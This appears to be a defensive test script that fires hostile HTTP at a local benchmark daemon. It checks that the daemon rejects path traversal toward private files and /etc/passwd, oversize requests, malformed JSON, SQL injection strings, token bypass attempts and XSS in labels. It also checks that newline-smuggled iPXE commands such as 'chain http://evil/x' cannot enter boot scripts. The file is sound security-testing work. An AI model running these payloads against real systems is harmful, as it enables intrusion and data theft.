#!/bin/bash
# timeout: 300
# Hostile HTTP against a real xcbenchd (token required for writes): path
# traversal in plain, encoded and double-encoded forms, oversize request
# lines, headers and bodies, bad JSON, SQL metacharacters in every query
# parameter and path id, unknown routes and methods, write routes without
# (or with a wrong) token. Each must get the right 4xx (never 5xx, never a
# file from outside web/), the database must be byte-for-byte unchanged
# (every table dumped before and after), and the daemon must keep serving.
# Then the legitimate writes with hostile *content* (SQL and CRLF in labels,
# iPXE script injection through boot.ipxe parameters) store it verbatim and
# render it harmlessly.
. "$(dirname "$0")/lib/tap.sh"
. "$(dirname "$0")/lib/test-daemon.sh"
daemon_test "hostile HTTP"

TMP=$(mktemp -d "$OUTDIR/hostile-http.XXXXXX")
mkdir -p "$TMP/web/js" && echo '<h1>dash</h1>' >"$TMP/web/index.html" && echo '//' >"$TMP/web/js/a.js"
echo 'PRIVATE-XCB-MARKER' >"$TMP/private.txt"
ln -s "$TMP/private.txt" "$TMP/web/link.txt"
admin_daemon h0stile-admin-token --web "$TMP/web"

# Something to attack: two runs (one crashed) registered with the token.
for t in 00000000000a0001 00000000000a0002; do
	curl -sf "${ADMIN[@]}" -X POST -d "{\"token\":\"$t\",\"label\":\"base\"}" "$URL/api/v1/runs" >/dev/null
done
"$XCB_GEN" --server 127.0.0.1:$PORT --token 00000000000a0001 --reps 3 >/dev/null 2>"$TMP/gen.log" &&
"$XCB_GEN" --server 127.0.0.1:$PORT --token 00000000000a0002 --reps 1 --crash >/dev/null 2>>"$TMP/gen.log"
check "two runs ingested to attack" [ "$(pyjson "$URL/api/v1/runs" 'd["total"]')" = 2 ]
curl -sf "${ADMIN[@]}" -X POST -d '{"mac":"52:54:00:00:00:09","suite":"quick"}' "$URL/api/v1/jobs" >/dev/null
# The idle writer stores finished runs' pages by itself (runrender.c):
# done before the database is dumped, so only the attacks could change it.
wait_rendered "the runs' pages stored before the attacks"

python3 - "$PORT" "$DB" "$DPID" <<'PY'
import hashlib, http.client, json, os, socket, sqlite3, sys, time, urllib.parse
port, dbpath, dpid = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
TOKEN = "h0stile-admin-token"
n_ok = n_bad = 0

import tap as taplib
def tap(cond, name):
    global n_ok, n_bad
    taplib.ok(cond, name)
    if cond: n_ok += 1
    else: n_bad += 1

def db_dump():
    """Every row of every table, except the events the collector may append."""
    c = sqlite3.connect("file:%s?mode=ro" % dbpath, uri=True)
    h = hashlib.sha256()
    for line in c.iterdump():
        h.update(line.encode())
    c.close()
    return h.hexdigest()

def req(method, path, body=None, headers=None):
    """One request on a fresh connection; (status, body bytes). Path sent as is."""
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        c.putrequest(method, path, skip_accept_encoding=True)
        headers = dict(headers or {})
        if body is not None and "Content-Type" not in headers:
            headers["Content-Type"] = "application/json"  # writes need it (a browser's text/plain is refused)
        for k, v in headers.items():
            c.putheader(k, v)
        if body is not None:
            c.putheader("Content-Length", str(len(body)))
        c.endheaders(body)
        r = c.getresponse()
        return r.status, r.read(), r.getheader("Content-Type") or ""
    except (ConnectionError, http.client.HTTPException) as e:
        return -1, str(e).encode(), ""
    finally:
        c.close()

def raw(data, read=65536):
    """Raw bytes on a socket: (status or -1 if the server just closed)."""
    s = socket.create_connection(("127.0.0.1", port), timeout=30)
    try:
        try:
            s.sendall(data)
        except (BrokenPipeError, ConnectionResetError):
            pass
        buf = b""
        while True:
            try:
                d = s.recv(read)
            except (ConnectionResetError, socket.timeout):
                break
            if not d:
                break
            buf += d
        line = buf.split(b"\r\n", 1)[0].split()
        return int(line[1]) if len(line) >= 2 and line[1].isdigit() else -1, buf
    finally:
        s.close()

def json_error_ok(st, body, ctype):
    if "application/json" not in ctype:
        return True          # libmicrohttpd's own refusals are plain HTML
    try:
        d = json.loads(body)
    except ValueError:
        return False
    return d.get("status") == st and isinstance(d.get("error"), str)

def alive():
    try:
        os.kill(dpid, 0)
    except OSError:
        return False
    st, body, _ = req("GET", "/api/v1/health")
    return st == 200

before = db_dump()
bad = []

# --- path traversal: never 2xx, never the marker -------------------------------
trav = ["/../private.txt", "/..%2fprivate.txt", "/%2e%2e/private.txt", "/%2e%2e%2fprivate.txt",
        "/%2E%2E/private.txt", "/%252e%252e/private.txt", "/%252e%252e%252fprivate.txt",
        "/js/../../private.txt", "/js/%2e%2e/%2e%2e/private.txt", "/./../private.txt",
        "/.%2e/private.txt", "/%c0%ae%c0%ae/private.txt", "/..%5cprivate.txt", "/..\\private.txt",
        "//private.txt", "/link.txt", "/js/..%2f..%2fprivate.txt", "/api/v1/../../private.txt", "/firmware/..%2f..%2fprivate.txt",
        "/boot.ipxe/../private.txt", "/" + "../" * 40 + "etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
        "/....//private.txt", "/js/./../../private.txt"]
for p in trav:
    st, body, ct = req("GET", p)
    if not (400 <= st < 500) or b"PRIVATE-XCB-MARKER" in body or b"root:" in body:
        bad.append("%s -> %d" % (p, st))
tap(not bad, "path traversal (%d forms: .., %%2e%%2e, %%2f, %%5c, double encoding, overlong UTF-8, NUL, symlink) -> 4xx, no file outside web/%s" % (len(trav), (": " + ", ".join(bad)) if bad else ""))
# libmicrohttpd decodes %00 and the path ends there: what remains must be inside web/.
for p in ["/index.html%00/../../private.txt", "/%00/../private.txt", "/js/a.js%00.txt"]:
    st, body, ct = req("GET", p)
    if b"PRIVATE-XCB-MARKER" in body or st >= 500:
        bad.append("%s -> %d" % (p, st))
tap(not bad, "NUL in a path truncates it, never past web/")
st, _, _ = req("GET", "/js/a.js")
tap(st == 200, "a real file under web/ is still served (200)")

# --- oversize request line, headers, bodies ------------------------------------
st, _ = raw(b"GET /" + b"a" * 200000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
tap(st in (-1, 400, 413, 414, 431), "200 KB request line refused (%d)" % st)
st, _ = raw(b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\nX-Big: " + b"b" * 200000 + b"\r\n\r\n")
tap(st in (-1, 400, 413, 431), "200 KB header refused (%d)" % st)
st, _ = raw(b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-H%d: v\r\n" % i for i in range(5000)) + b"\r\n")
tap(st in (-1, 400, 413, 431), "5000 headers refused (%d)" % st)
big = b"{" + b" " * (1 << 20) + b"}"
for m, p in [("POST", "/api/v1/jobs"), ("PATCH", "/api/v1/runs/1"), ("POST", "/api/v1/runs")]:
    st, body, ct = req(m, p, big, {"Authorization": "Bearer " + TOKEN, "Content-Type": "application/json"})
    tap(st == 413 and json_error_ok(st, body, ct), "1 MiB body with the token on %s %s -> 413 (%d)" % (m, p, st))
    st, body, ct = req(m, p, big, {"Content-Type": "application/json"})
    tap(st in (401, 413), "1 MiB body without the token on %s %s -> 401/413 (%d)" % (m, p, st))
st, _ = raw(b"POST /api/v1/jobs HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n{}")
tap(st in (-1, 400, 413), "absurd Content-Length refused (%d)" % st)
st, _ = raw(b"POST /api/v1/jobs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + TOKEN.encode() +
            b"\r\nTransfer-Encoding: chunked\r\n\r\n" + b"".join(b"1000\r\n" + b"x" * 4096 + b"\r\n" for _ in range(40)) + b"0\r\n\r\n")
tap(st == 413, "160 KiB chunked body with the token -> 413 (%d)" % st)

# --- bad JSON on every write route (with the token: 400) ------------------------
badjson = [b"", b"{", b"{not json", b"[]", b"\"str\"", b"null", b"123", b"{\"mac\":}", b"\xff\xfe{}",
           b"{\"a\":\"\xc3\x28\"}", b"{\"a\":1}\x00trailing", b"[" * 60000, b"{\"mac\":" * 5000,
           b"{\"mac\":\"52:54:00:00:00:01\",\"suite\":\"q\",\"params\":[1,2]}",
           b"{\"mac\":\"52:54:00:00:00:01\",\"suite\":\"q;reboot\"}",
           b"{\"mac\":\"52:54:00:00:00:01\",\"suite\":\"q\",\"params\":{\"a b\":\"1\"}}",
           b"{\"mac\":\"52:54:00:00:00:01\",\"suite\":\"q\",\"params\":{\"a\":\"x y\"}}",
           b"{\"mac\":\"52:54:00:00:00:01\",\"suite\":\"q\",\"params\":{\"a\":{\"b\":1}}}",
           b"{\"label\":1}", b"{\"status\":\"complete\"}", b"{\"token\":\"zz\"}", b"{\"token\":\"00000000000a0001\"}",
           b"{\"token\":\"0\"}", b"{\"token\":\"12345678901234567\"}"]
codes = {}
for m, p in [("POST", "/api/v1/jobs"), ("PATCH", "/api/v1/runs/1"), ("POST", "/api/v1/runs")]:
    for b in badjson:
        # POST /runs takes any object (every field optional, others ignored):
        # only syntax and the token field can be wrong there.
        if p == "/api/v1/runs" and (b == b"" or (b.startswith(b"{\"") and b"token" not in b and b.endswith(b"}"))):
            continue
        st, body, ct = req(m, p, b, {"Authorization": "Bearer " + TOKEN})
        if st not in (400, 409) or not json_error_ok(st, body, ct):
            codes["%s %s %r" % (m, p, b[:30])] = st
tap(not codes, "bad JSON bodies (%d per write route) -> 400 JSON errors%s" % (len(badjson), (": %s" % codes) if codes else ""))

# --- SQL metacharacters in every query parameter and path id -------------------
sqlv = ["' OR '1'='1", "1' OR 1=1--", "1; DROP TABLE runs;--", "\" OR \"\"=\"", "') UNION SELECT * FROM runs--",
        "%", "_", "\\", "1/**/OR/**/1=1", "*", "0x1 OR 1", "-1", "99999999999999999999999", "", "\x00x"]
routes = {
    "/api/v1/runs": ["machine", "status", "suite", "label", "since", "token", "limit", "offset"],
    "/api/v1/runs.csv": ["machine", "status", "suite", "label", "since", "token", "limit", "offset"],
    "/api/v1/runs/1/events": ["kind", "after", "limit"],
    "/api/v1/runs/1/cases/1/histogram": ["rep", "initiator"],
    "/api/v1/runs/1/cases/1/samples": ["rep", "initiator", "limit"],
    "/api/v1/runs/1/samples.csv": ["case", "rep", "initiator"],
    "/api/v1/compare": ["a", "b", "algo_a", "algo_b"],
    "/api/v1/compare.csv": ["a", "b", "algo_a", "algo_b"],
    "/api/v1/jobs": ["mac", "pending"],
    "/api/v1/machines": ["x"],
    "/api/v1/health": ["x"],
}
probs, n = [], 0
for route, params in routes.items():
    for prm in params:
        for v in sqlv:
            q = {prm: v}
            if route.startswith("/api/v1/compare") and prm not in ("a", "b"):
                q.update({"a": "1", "b": "2"})
            path = route + "?" + urllib.parse.urlencode(q)
            st, body, ct = req("GET", path)
            n += 1
            if st >= 500 or st < 0 or (st >= 400 and not json_error_ok(st, body, ct)):
                probs.append("%s -> %d" % (path, st))
            elif st == 200 and route == "/api/v1/runs" and prm in ("suite", "label", "machine", "token") and v and v[0] != "\x00":
                # an exact filter no row matches must return no row (no injection)
                if json.loads(body)["total"] != 0:
                    probs.append("%s returned rows" % path)
for idv in ["1 OR 1=1", "1'", "1;", "-1", "0", "1e3", "0x1", "99999999999999999999", "1%00", "%31", "1.0", "+1", " 1"]:
    for tmpl in ["/api/v1/runs/%s", "/api/v1/runs/%s.csv", "/api/v1/runs/%s/events", "/api/v1/runs/1/cases/%s/histogram",
                 "/api/v1/runs/1/cases/%s/samples", "/api/v1/runs/%s/samples.csv"]:
        path = tmpl % urllib.parse.quote(idv, safe="%")
        st, body, ct = req("GET", path)
        n += 1
        if st not in (400, 404) or not json_error_ok(st, body, ct):
            if not (idv in ("%31", "1%00") and st == 200):  # "1" once decoded (NUL ends it): a real run
                probs.append("%s -> %d" % (path, st))
tap(not probs, "SQL metacharacters in %d parameter/id requests -> 4xx or empty results, never 5xx%s" % (n, (": " + "; ".join(probs[:8])) if probs else ""))

# --- unknown routes and methods --------------------------------------------------
probs = []
for m, p, want in [("GET", "/api/v2/runs", 404), ("GET", "/api/v1/nope", 404), ("GET", "/api/v1/runs/1/nope", 404),
                   ("GET", "/api/v1/runs/1/cases/1", 404), ("GET", "/api/v1/runs/1/cases/1/histogram/x", 404),
                   ("GET", "/api/v1/", 404), ("GET", "/api", 404), ("GET", "/api/v1/" + "a/" * 300, 404),
                   ("PUT", "/api/v1/runs", 405), ("DELETE", "/api/v1/runs", 405), ("DELETE", "/api/v1/runs/1", 405),
                   ("POST", "/api/v1/runs/1", 405), ("POST", "/api/v1/health", 405), ("PATCH", "/api/v1/jobs", 405),
                   ("OPTIONS", "/api/v1/runs", 405), ("TRACE", "/api/v1/runs", 405), ("FOO", "/api/v1/runs", 405),
                   ("PUT", "/index.html", 405), ("DELETE", "/index.html", 405), ("POST", "/boot.ipxe", 405),
                   ("POST", "/firmware/xcbench.elf", 405), ("GET", "/api/v1/compare", 400), ("GET", "/nope.html", 404)]:
    st, body, ct = req(m, p)
    if st != want or not json_error_ok(st, body, ct):
        probs.append("%s %s -> %d (want %d)" % (m, p[:40], st, want))
tap(not probs, "unknown routes -> 404, wrong methods -> 405, JSON errors%s" % ((": " + "; ".join(probs)) if probs else ""))

# --- write routes without / with a wrong token -----------------------------------
probs = []
writes = [("POST", "/api/v1/jobs", b'{"mac":"52:54:00:00:00:01","suite":"quick"}'),
          ("DELETE", "/api/v1/jobs/1", None), ("PATCH", "/api/v1/runs/1", b'{"label":"pwned"}'),
          ("POST", "/api/v1/runs", b'{"token":"00000000deadbeef"}'), ("POST", "/api/v1/runs", None),
          ("POST", "/api/v1/runs/1/console", b"console line\n"), ("POST", "/api/v1/runs/1/console?line=5", b"x")]
auths = [None, "Bearer", "Bearer ", "Bearer wrong", "Bearer " + TOKEN + "x", "Bearer " + TOKEN[:-1],
         "bearer " + TOKEN, "Basic " + TOKEN, TOKEN, "Bearer  " + TOKEN, "Bearer " + TOKEN + " x"]
for m, p, b in writes:
    for a in auths:
        h = {} if a is None else {"Authorization": a}
        try:
            st, body, ct = req(m, p, b, h)
        except ValueError:  # http.client refuses a NUL in a header: send it raw
            hdr = ("%s %s HTTP/1.1\r\nHost: x\r\nAuthorization: %s\r\nContent-Length: %d\r\n\r\n" % (m, p, a, len(b or b""))).encode()
            st, _ = raw(hdr + (b or b""))
            ct, body = "", b""
        if st != 401 or not json_error_ok(st, body, ct):
            probs.append("%s %s auth=%r -> %d" % (m, p, a, st))
tap(not probs, "write routes without or with a wrong token (%d tries) -> 401%s" % (len(writes) * len(auths), (": " + "; ".join(probs)) if probs else ""))

# --- nothing changed, still serving ------------------------------------------------
time.sleep(0.5)
after = db_dump()
tap(before == after, "database unchanged by all of the above (every table dumped)")
tap(alive(), "daemon still serving")

# --- hostile content through legitimate writes ------------------------------------
evil = "x'); DROP TABLE runs;--\r\n<script>alert(1)</script> \"q\",;"
st, body, _ = req("PATCH", "/api/v1/runs/1", json.dumps({"label": evil, "notes": "ü\u2028\x01"}).encode(),
                  {"Authorization": "Bearer " + TOKEN})
tap(st == 200 and json.loads(body)["run"]["label"] == evil, "SQL/HTML/CRLF in a label is stored verbatim (%d)" % st)
st, body, _ = req("GET", "/api/v1/runs?" + urllib.parse.urlencode({"label": evil}))
tap(st == 200 and json.loads(body)["total"] == 1, "and found by an exact label filter")
st, body, _ = req("GET", "/api/v1/runs.csv?" + urllib.parse.urlencode({"label": evil}))
rows = body.decode().split("\r\n")
tap(st == 200 and ('"' + evil.replace('"', '""') + '"') in body.decode(), "and RFC 4180-quoted in runs.csv")
c = sqlite3.connect("file:%s?mode=ro" % dbpath, uri=True)
tap(c.execute("SELECT count(*) FROM runs").fetchone()[0] == 2, "runs table intact after the injection attempt")
c.close()
st, body, _ = req("GET", "/boot.ipxe?" + urllib.parse.urlencode(
    {"mac": "52:54:00:00:00:07", "uuid": "u\nshell\n", "serial": "s' OR 1=1; \r\nchain http://evil/x"}),
    )
script = body.decode(errors="replace")
tap(st in (200, 400) and "shell" not in script.split("\n") and not any(l.startswith("chain") for l in script.split("\n")),
    "boot.ipxe: newlines in uuid/serial cannot inject iPXE commands (%d)" % st)
st, body, _ = req("GET", "/boot.ipxe?mac=52:54:00:00:00:07%0ashell")
tap(st == 400, "boot.ipxe: a MAC with a newline -> 400 (%d)" % st)
tap(alive(), "daemon still serving at the end")
sys.exit(1 if n_bad else 0)
PY
check "SIGTERM: clean shutdown" stop_daemon
check "integrity_check ok" [ "$(python3 -c 'import sqlite3,sys; print(sqlite3.connect(sys.argv[1]).execute("PRAGMA integrity_check").fetchone()[0])' "$DB")" = ok ]
